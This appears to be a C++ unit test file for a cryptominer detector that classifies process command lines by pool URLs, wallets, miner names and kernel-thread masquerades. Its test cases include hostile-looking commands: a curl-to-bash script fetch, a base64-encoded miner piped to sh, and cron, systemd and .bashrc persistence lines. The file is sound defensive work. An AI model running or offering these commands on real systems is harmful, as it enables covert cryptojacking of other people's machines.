// SPDX-License-Identifier: Apache-2.0
#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>

#include <gtest/gtest.h>

#include "davy/intel/intel.h"

namespace davy::intel {
namespace {

const Intel& shipped() {
  static const Intel intel = [] {
    std::vector<std::pair<std::string, std::string>> files;
    for (const auto& item :
         std::filesystem::directory_iterator(DAVY_SOURCE_DIR "/content/indicators")) {
      if (item.path().extension() != ".csv") continue;
      std::stringstream text;
      text << std::ifstream(item.path()).rdbuf();
      files.emplace_back(item.path().filename().string(), text.str());
    }
    Diagnostics diagnostics;
    return Intel::load(files, diagnostics);
  }();
  return intel;
}

/// Findings as letters: U pool URL, W wallet, N miner name, O option, P known path, M masquerade,
/// A pool as an argument, F miner's file, T mention.
std::string read(std::string_view path, std::string_view command_line) {
  std::string letters;
  for (const auto& finding : shipped().read_command_line(path, command_line)) {
    letters += "UWNOPMAFT"[static_cast<size_t>(finding.what)];
    const auto is_inside = [&](std::string_view whole) {
      return finding.text.data() >= whole.data() &&
             finding.text.data() + finding.text.size() <= whole.data() + whole.size();
    };
    EXPECT_TRUE(is_inside(path) || is_inside(command_line)) << command_line;
    EXPECT_FALSE(finding.text.empty()) << command_line;
  }
  return letters;
}

struct Case {
  std::string_view path;
  std::string_view command_line;
  std::string_view findings;
};

#define WALLET                                      \
  "43Lfq18TycJHVR3AMews5C9f6SEfenZoQMcrsEeFXZTWcFW" \
  "9jW7VeCySDm1L9n4d2JEoHjcDpWZFq6QzqN4QGHYZVaALj3U"
#define EXAMPLE_WALLET                              \
  "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU" \
  "5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"

TEST(CommandLine, Miners) {
  constexpr Case kCases[] = {
      // the seeds
      {"/tmp/xmrig", "./xmrig –config=config.json", "PNN"},
      {"/usr/bin/xmrig", "", "PN"},
      {"/tmp/.ICE-unix/kworker", "", "PM"},
      {"/tmp/.systemd/systemd-update", "/tmp/.systemd/systemd-update --donate-level 1", "PMPMO"},
      // pools
      {"", "/tmp/a -o stratum+tcp://pool.supportxmr.com:3333", "U"},
      {"", "./app -a rx/0 -o stratum+tcp://randomxmonero.auto.nicehash.com:9200 -p x -u x", "OU"},
      {"", "./x --url=\"stratum+ssl://1.2.3.4:443\"", "U"},
      {"", "./x -P stratum1+tcp://" WALLET ".w@eu1.example.org:4444", "UW"},
      {"", "./x -o 203.0.113.7:3333 -u " WALLET " -p x", "UW"},
      {"", "./x -o pool.supportxmr.com:3333", "U"},
      {"", "./x --url=pool.hashvault.pro:443", "U"},
      {"", "./x -o example.org:14444 --donate-level=1", "UO"},
      {"", "./x -o example.org:14444 -u me -p x", "U"},
      {"", "./x -pool eu1.example.org:4444 -wal 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed", "UO"},
      {"", "./x -epool eu1.example.org:4444 -ewal 0x0 -eworker rig1", "UOO"},
      {"", "./x --par=144,5 --pers=auto --url=t1@example.org:3333", "OU"},
      // wallets
      {"", "./app --user XMR:" WALLET ".rig1#ab12-cd34", "W"},
      {"", "bash setup_c3pool_miner.sh " WALLET, "W"},
      {"", "curl -s http://h/x.sh | WALLET=" WALLET " bash", "W"},
      {"", "curl -o pool.supportxmr.com:3333 -u " WALLET " -p x", "UW"},
      {"/tmp/curl", "curl -o https://pool.supportxmr.com -u x -p x", "U"},
      // a fetcher's name on something else
      {"", "/opt/app/curl -o pool.hashvault.pro:443 -c /opt/c.json", "U"},
      {"/opt/app/http", "http -o pool.hashvault.pro:443", "U"},
      {"", "./ab -o pool.hashvault.pro:80 -u me -p x", "U"},
      {"", "curl -o pool.hashvault.pro:443 --tls", "U"},
      {"", "curl -o pool.hashvault.pro:443 -u " WALLET, "UW"},
      {"", "curl -o pool.hashvault.pro:443 --algo rx/0", "UO"},
      {"/usr/bin/curl", "curl --coin=monero -o pool.hashvault.pro:443", "OU"},
      {"", "wget -o pool.hashvault.pro:443 --donate-level 1", "UO"},
      {"", "/opt/app/grep -o pool.hashvault.pro:443 -u " WALLET, "UW"},
      // a page's name with a port that serves no pages
      {"", "./x -o www.supportxmr.com:3333 -u x -p x", "U"},
      {"", "./x --url=mail.eu.supportxmr.com:443 -u x -p x", "U"},
      // names
      {"", "xmrig", "N"},
      {"", "./xmrig-6.21.0 -c config.json", "N"},
      {"", "/opt/xmrig-6.21.0/run", "N"},
      {"", "sudo -u nobody nohup nice -n 19 ./xmrig --coin monero &", "NO"},
      {"", "taskset -c 0-3 ./t-rex -a kawpow", "NO"},
      {"", "timeout -k 5 3600 minerd -a cryptonight", "NO"},
      {"", "sh -c 'cd /opt && ./xmrig --max-cpu-usage=75'", "NO"},
      {"", "[\"/bin/sh\",\"-c\",\"./xmrig -o pool.supportxmr.com:5555\"]", "NU"},
      {"", "bash -c ./xmrig", "N"},
      {"", "(sleep 5; ./lolMiner --algo ETHASH)", "NO"},
      {"", "A=1 B=2 env C=3 ./nbminer", "N"},
      {"", "python3 -c 'import os; os.system(\"./x --donate-level 1\")'", "O"},
      {"", "docker run -d --restart always kannix/monero-miner -a cryptonight", "NO"},
      {"", "kubectl run x --image=docker.io/yenik65958/secret:user", "N"},
      // options alone
      {"", "./kube-proxy --cpu-max-threads-hint=50", "O"},
      {"", "./a --randomx-1gb-pages", "O"},
      {"", "./a --algo=cn/r", "O"},
      {"", "echo '{\"donate-level\": 0}' > config.json", "F"},
      // places
      {"", "chmod +x /tmp/kdevtmpfsi", "F"},
      {"/var/tmp/kinsing", "kinsing", "PNN"},
      // masquerade
      {"/tmp/kworker", "[kworker/0:1]", "MM"},
      {"/usr/bin/kworker", "kworker", "MM"},
      {"/dev/shm/sshd", "sshd: root", "PM"},
      {"/home/u/.x/systemd-journald", "", "M"},
      {"/memfd: (deleted)", "", "M"},
      {"memfd:kswapd0", "", "M"},
      {"/var/tmp/nginx (deleted)", "nginx: worker process", "M"},
      {"", "exec -a [kworker/u8:2] ./a", "M"},
      // base64: "./xmrig -o stratum+tcp://pool.supportxmr.com:3333"
      {"",
       "echo Li94bXJpZyAtbyBzdHJhdHVtK3RjcDovL3Bvb2wuc3VwcG9ydHhtci5jb206MzMzMw== | base64 -d | sh",
       "UN"},
  };
  for (const auto& c : kCases)
    EXPECT_EQ(read(c.path, c.command_line), c.findings) << c.path << " " << c.command_line;
}

TEST(CommandLine, NotMiners) {
  constexpr Case kCases[] = {
      {"", "", ""},
      {"/usr/bin/python3", "python3 train.py --epochs 10", ""},
      {"/usr/bin/git", "git clone https://github.com/xmrig/xmrig", ""},
      {"/usr/bin/vim", "vim xmrig.conf", ""},
      // options that begin or end like a miner's
      {"", "docker run -d -eWORKER=2 app:1 --server broker.example.com:5672", ""},
      {"", "docker exec -eworker app true", ""},
      {"", "docker run -eWAL=on postgres", ""},
      {"", "grep -eworker notes.txt", ""},
      {"", "/opt/lab/fit -a 150,5 -o results.example.org:8080", ""},
      {"", "gmt psxy --par=150,4", ""},
      {"", "cut -a 210,9", ""},
      {"", "python3 sync.py -allcoins --server api.example.com:8443", ""},
      {"", "ceph osd dump -allpools", ""},
      {"", "/usr/bin/pay -wal on -amount 3", ""},
      {"", "vi /tmp/xmrig", ""},
      {"", "sudo -u xmrig-benchmark python3 bench.py", ""},
      {"/home/xmrig-benchmark/bin/python", "python run.py", ""},
      {"/home/xmrig/bin/python", "python run.py", ""},
      {"", "ssh xmrig@host uptime", ""},
      {"", "su - xmrig", ""},
      {"", "useradd -m xmrig", ""},
      {"", "kubectl get pods -o pool.yaml", ""},
      {"", "kubectl get nodes -o yaml --server https://10.0.0.1:6443", ""},
      {"", "kubectl run xmrig --image=nginx", ""},
      {"", "curl -o out.bin:1234 http://example.org/", ""},
      {"", "curl -s https://api.supportxmr.com/stats", ""},
      {"/usr/bin/curl", "curl --url https://pool.supportxmr.com:443/ -o page", ""},
      {"", "curl -s https://supportxmr.com/api/miner/" WALLET "/stats", ""},
      {"", "wget -P pool.supportxmr.com https://pool.supportxmr.com/", ""},
      {"", "firefox --url https://www.supportxmr.com", ""},
      {"", "python3 exporter.py --url https://api.supportxmr.com/pool/stats", ""},
      {"", "curl -u me -o file http://example.org:3333/", ""},
      {"/opt/homebrew/bin/curl", "curl -o page https://pool.hashvault.pro/", ""},
      {"", "curl -o page --tlsv1.2 --tls-max 1.3 --url https://pool.hashvault.pro/", ""},
      {"", "curl -a -o log --url pool.hashvault.pro:443", ""},
      {"", "/usr/bin/grep -r --donate-level /etc", ""},
      {"", "/root/.cargo/bin/rg xmrig", ""},
      {"", "python3 exporter.py --url www.supportxmr.com:443", ""},
      {"", "gcc -o pool.o -c pool.c", ""},
      {"", "mysql -u root -p secret --host db.example.org:3306x", ""},
      {"", "ssh -o ProxyJump=host:22 -p 22 h", ""},
      {"", "shasum -a 256 file", ""},
      {"", "openssl dgst -a scrypt", ""},
      {"", "grep -r 'stratum+tcp://' /etc", ""},
      {"", "pgrep -f xmrig", ""},
      {"", "grep -E xmrig|kinsing", ""},  // as listings write 'xmrig|kinsing'
      {"", "sed -n /xmrig/p;/kinsing/p", ""},
      {"", "sh -c 'pgrep x; /tmp/xmrig'", "PN"},  // a shell runs both
      {"", "pkill -9 xmrig", ""},
      {"", "ls /tmp/.systemd/", ""},
      {"", "rm -rf /tmp/kinsing", ""},
      {"", "dig pool.supportxmr.com", ""},
      {"", "docker build -t me/xmrig .", ""},
      {"", "zpool import -c /etc/zfs/zpool.cache", ""},
      {"", "./xmrig-exporter --port 9100", ""},
      {"", "google-chrome --disable-gpu --no-sandbox", ""},
      {"", "chronyc -n sources --stratum 2", ""},
      {"", "./demo --wallet " EXAMPLE_WALLET, ""},
      {"",
       "./pay "
       "43Lfq18TycJHVR3AMews5C9f6SEfenZoQMcrsEeFXZTWcFW9jW7VeCySDm1L9n4d2JEoHjcDpWZFq6QzqN4QG",
       ""},
      {"", "[kworker/0:1-events]", ""},
      {"", "[ksoftirqd/0]", ""},
      {"/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald", ""},
      {"/usr/lib/systemd/systemd-journald (deleted)", "/usr/lib/systemd/systemd-journald", ""},
      {"/usr/sbin/sshd (deleted)", "sshd: user@pts/0", ""},
      {"/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init", ""},
      {"/home/u/.local/bin/systemd-tool", "systemd-tool", ""},
      {"/home/u/.vscode-server/bin/node", "node server.js", ""},
      {"", "echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBsb25nIHRleHQ= | base64 -d", ""},
      {"", "/usr/lib/x86_64-linux-gnu/libexec/something/quite/long/indeed", ""},
  };
  for (const auto& c : kCases)
    EXPECT_EQ(read(c.path, c.command_line), c.findings) << c.path << " " << c.command_line;
}

TEST(CommandLine, APoolThatAProgramOnlyPassesOnIsNotMinedAt) {
  constexpr Case kCases[] = {
      // what has the grammar of a miner, whatever it is called
      {"/opt/app/kworker", "./kworker -o 203.0.113.7:3333 -u " WALLET " -p x", "MMUW"},
      {"", "./notify.sh -o stratum+tcp://pool.example.net:3333", "U"},
      {"", "./app stratum+tcp://pool.example.net:3333 -u me -p x", "U"},
      {"", "./app stratum+tcp://pool.example.net:3333 -u " WALLET, "UW"},
      {"", "./app stratum+tcp://me.w1@pool.example.net:3333", "U"},
      {"", "./app stratum+tcp://pool.example.net:3333 0x9c99d212F7e5daA18Ab50810E0Fd255D1f04303b",
       "UW"},
      {"", "./app -a rx/0 stratum+tcp://pool.example.net:3333", "OU"},
      {"", "./gpu -uri stratum://pool.example.net:3333", "U"},
      {"", "docker exec c sh -c './a -o stratum+tcp://pool.example.net:3333'", "U"},
      {"", "/opt/xmrig stratum+tcp://pool.example.net:3333", "NU"},
      // what only passes it on
      {"", "/opt/notify.sh stratum+tcp://pool.example.net:3333", "A"},
      {"", "bash /opt/notify.sh stratum+tcp://pool.example.net:3333", "A"},
      {"", "slack-notify --text 'stratum+tcp://pool.example.net:3333 is down'", "A"},
      {"", "slack-notify --text pool.supportxmr.com:3333", "A"},
      {"", "nc -vz pool.supportxmr.com 3333", ""},
      {"", "nc -vz pool.supportxmr.com:3333", "A"},
      {"", "./proxy 0.0.0.0:80 gulf.moneroocean.stream:10128", "A"},
      // what writes or sends it
      {"", "sh -c \"echo stratum+tcp://pool.example.net:3333\"", "T"},
      {"", "sh -c echo stratum+tcp://pool.example.net:3333", "T"},  // as Falco writes it
      {"", "echo -o stratum+tcp://pool.example.net:3333 -u " WALLET, "TT"},
      {"/usr/bin/printf", "printf %s pool.supportxmr.com:3333", "T"},
      {"", "curl -d text=stratum+tcp://pool.example.net:3333 https://hooks.example.org/", "T"},
      {"", "curl -d 'run -o stratum+tcp://pool.example.net:3333' https://h.example.org/", "T"},
      {"", "grep -o stratum+tcp://pool.example.net:3333 /etc/hosts", ""},
      // a text that is run
      {"", "echo './a -o stratum+tcp://pool.example.net:3333' | sh", "U"},
      {"", "echo '* * * * * /opt/a -o stratum+tcp://pool.example.net:3333' | crontab -", "U"},
      {"", "echo '* * * * * root /opt/a -o stratum+tcp://pool.example.net:3333' > /etc/cron.d/a",
       "U"},
      {"",
       "echo '* * * * * /opt/a -o stratum+tcp://pool.example.net:3333' | sudo tee /etc/cron.d/a",
       "U"},
      {"",
       "printf 'ExecStart=/opt/a -o stratum+tcp://p.example.net:3333' > "
       "/lib/systemd/system/a.service",
       "U"},
      {"", "echo '/opt/a -o stratum+tcp://pool.example.net:3333 &' >> ~/.bashrc", "U"},
      {"", "echo -o stratum+tcp://pool.example.net:3333 | xargs /opt/a", "U"},
      {"", "echo stratum+tcp://pool.example.net:3333 | xargs curl", "T"},
      {"", "echo seen -o stratum+tcp://pool.example.net:3333 >> /tmp/ioc.txt", "T"},
      // a search, and then another command
      {"", "sh -c pgrep -x a || /opt/a -o stratum+tcp://pool.example.net:3333", "U"},
      {"", "pgrep -f a && exit; /opt/a -o stratum+tcp://pool.example.net:3333", "U"},
      {"",
       "ps -ef | grep -v grep | grep -q a || nohup /opt/a -o stratum+tcp://pool.example.net:3333",
       "U"},
      {"", "grep -E a|b -o stratum+tcp://pool.example.net:3333 log", ""},
      // settings of the program
      {"", "P=stratum+tcp://pool.example.net:3333 exec /opt/a", "U"},
      {"/tmp/echo", "echo -o stratum+tcp://pool.example.net:3333", "U"},
      {"/usr/bin/curl", "curl -o stratum+tcp://pool.example.net:3333 -u x -p x", "U"},
  };
  for (const auto& c : kCases)
    EXPECT_EQ(read(c.path, c.command_line), c.findings) << c.path << " " << c.command_line;
}

TEST(CommandLine, ClientsOfDatabasesAndBrokersLogInAsMinersDo) {
  for (const std::string_view client :
       {"mongosh --host db1.example.com:27017 -u app -p secret",
        "nats --server nats.example.com:4222 --user app --password secret",
        "flyway --url db1.example.com:5432 --user app --password x migrate",
        "/home/dba/bin/migration --url=db1.example.com:5432 -u app -p secret",
        "broker -s mq.example.com:5672 -u app -p x"}) {
    EXPECT_EQ(read("", client), "") << client;
  }
  EXPECT_EQ(read("", "/opt/a -o pool.example.net:3333 -u app -p x"), "U");
  EXPECT_EQ(read("", "/opt/a --url=pool.example.net:3333 -u " WALLET " -p x"), "UW");
}

TEST(CommandLine, AContainerIsWhatIsStartedNotWhatItReads) {
  constexpr Case kCases[] = {
      {"", "docker run aquasec/trivy image xmrig/xmrig", ""},
      {"", "docker run --rm -v /a/b:/c aquasec/trivy image xmrig/xmrig", ""},
      {"", "docker run alpine sh kannix/monero-miner", ""},
      {"", "docker run -it --name a/b -e A=b/c -p 80:80 kannix/monero-miner", "N"},
      {"", "docker container create --memory 1g kannix/monero-miner", "N"},
      {"", "podman run -dv data:/data docker.io/kannix/monero-miner:latest", "N"},
      {"", "kubectl run x --image docker.io/yenik65958/secret:user", "N"},
      {"", "kubectl run x --image=nginx -- scan kannix/monero-miner", ""},
  };
  for (const auto& c : kCases)
    EXPECT_EQ(read(c.path, c.command_line), c.findings) << c.path << " " << c.command_line;
}

TEST(CommandLine, ADatabaseMigrationIsNoKernelThread) {
  EXPECT_EQ(read("/opt/app/migration", "migration"), "");
  EXPECT_EQ(read("/usr/sbin/watchdogd", "watchdogd"), "");
  EXPECT_EQ(read("/tmp/migration", ""), "M");
  EXPECT_EQ(read("/opt/app/run", "[migration/0]"), "M");
  EXPECT_EQ(read("/opt/app/kcompactd0", "kcompactd0"), "MM");
}

TEST(CommandLine, NamesPoolsAndCoins) {
  const auto findings = shipped().read_command_line(
      "", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u " WALLET ".w1 -a rx/0");
  ASSERT_EQ(findings.size(), 4u);
  EXPECT_EQ(findings[0].family, "xmrig");
  EXPECT_EQ(findings[1].text, "stratum+tcp://pool.supportxmr.com:3333");
  EXPECT_EQ(findings[1].family, "supportxmr");
  EXPECT_EQ(findings[2].text, WALLET);
  EXPECT_EQ(findings[2].family, "XMR");
  EXPECT_EQ(findings[3].family, "randomx");
}

TEST(CommandLine, HostileTextIsBounded) {
  EXPECT_TRUE(read("", std::string(1 << 20, '\'')).empty());
  EXPECT_TRUE(read("", std::string(1 << 20, '(')).empty());
  std::string nested = "./xmrig";
  for (int i = 0; i < 20; ++i)
    nested = "sh -c \"x " + nested + "\"";
  read("", nested);
  std::string words;
  for (int i = 0; i < 20000; ++i)
    words += "a://b ";
  EXPECT_TRUE(read("", words).empty());
}

}  // namespace
}  // namespace davy::intel
